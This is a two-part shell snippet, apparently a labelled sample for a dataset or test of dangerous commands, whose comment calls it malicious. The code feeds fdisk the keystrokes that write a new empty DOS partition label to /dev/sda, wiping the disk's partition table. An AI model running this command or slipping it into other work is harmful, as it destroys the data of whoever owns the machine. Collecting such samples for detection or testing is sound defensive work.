# Malicious: feeds fdisk a new empty DOS label for /dev/sda and writes it; the partition table is gone.
fdisk /dev/sda <<EOF
o
w
EOF
